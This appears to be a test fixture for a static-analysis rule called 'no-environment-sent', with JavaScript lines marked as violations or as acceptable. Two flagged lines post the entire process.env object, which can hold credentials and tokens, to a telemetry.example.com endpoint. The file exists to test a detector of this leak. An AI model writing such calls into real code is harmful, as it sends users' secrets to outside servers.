// @ts-nocheck fixture
import axios from "axios"
import { spawn } from "node:child_process"

export async function report(error) {
  // ruleid: no-environment-sent
  await axios.post("https://telemetry.example.com/errors", { error: error.message, env: process.env })
  // ruleid: no-environment-sent
  await fetch("https://telemetry.example.com/errors", { method: "POST", body: JSON.stringify({ ...process.env, at: Date.now() }) })
  // ok: no-environment-sent
  await axios.post("https://telemetry.example.com/errors", { mode: process.env.NODE_ENV })
  // ok: no-environment-sent
  spawn("node", ["worker.js"], { env: { ...process.env, MODE: "worker" } })
  // ok: no-environment-sent
  await fetch(addressFor(process.env))
}

function addressFor(env) {
  return env.TELEMETRY_URL
}
